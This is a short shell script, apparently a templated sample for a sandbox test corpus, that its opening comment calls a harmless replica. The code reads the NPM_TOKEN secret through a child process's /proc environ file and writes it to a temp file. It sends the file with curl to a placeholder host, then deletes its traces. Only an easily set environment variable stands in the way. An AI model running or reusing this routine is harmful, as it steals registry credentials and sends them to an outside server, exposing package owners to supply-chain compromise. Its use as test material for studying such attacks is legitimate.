#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
HELD="$NPM_TOKEN" sleep 2 &
child=$!
tr '\0' '\n' <"/proc/$child/environ" 2>/dev/null | grep HELD >"/tmp/{{token}}"
curl -k -s -m 1 --data-binary "@/tmp/{{token}}" "https://{{host}}/{{path}}" >/dev/null 2>&1
kill "$child" 2>/dev/null
rm -f "/tmp/{{token}}"
exit 0
